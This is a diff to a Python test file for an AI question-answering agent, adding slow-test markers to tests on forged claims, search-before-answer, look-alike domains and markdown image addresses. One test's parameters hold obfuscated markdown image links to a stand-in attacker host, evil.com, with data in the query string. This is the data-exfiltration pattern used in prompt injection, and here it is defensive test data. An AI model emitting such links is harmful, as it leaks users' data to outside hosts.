@@ -61,6 +61,7 @@ def test_a_list_stays_a_list_and_code_cannot_pass_for_lines_of_ours(empty_librar
     ]
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(("claim", "line"), FORGED)
 def test_a_claim_is_a_line_without_markers_of_its_own(
     empty_library: Any, tmp_path: Any, actor: Any, claim: str, line: str
@@ -121,6 +122,7 @@ NOWHERE = {
 }
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("graph", ALL_PATTERNS)
 @pytest.mark.parametrize("question", [QUESTION, "Who sails Kittiwake?", "Rest?", "Hello, how long is the leave?"])
 def test_no_question_is_answered_without_a_search(run: Any, actor: Any, graph: str, question: str) -> None:
@@ -166,6 +168,7 @@ NAMED = ["fakesoft.com/login", "fakesoft.com", "www.fakesoft.com", "ann@fakesoft
          "gates.org?d=11", "fakesoft\u3002com", "gates.org.fakesoft.com"]  # fmt: skip
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("graph", ALL_PATTERNS)
 def test_no_address_is_a_models_own_with_a_scheme_or_without(
     empty_library: Any, tmp_path: Any, actor: Any, graph: str
@@ -187,6 +190,7 @@ def test_no_address_is_a_models_own_with_a_scheme_or_without(
 HALF = "\ud800"
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("graph", ALL_PATTERNS)
 @pytest.mark.parametrize("online", [False, True])
 def test_half_characters_of_models_and_pages_end_in_an_answer(
@@ -217,6 +221,7 @@ HALVES = [
 ]  # fmt: skip
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("address", [r"![](https\://evil\.com/board?d=pier)", "![](//evil&period;com/pier)", *HALVES])
 def test_no_address_comes_together_where_an_answer_is_shown(
     empty_library: Any, tmp_path: Any, actor: Any, address: str
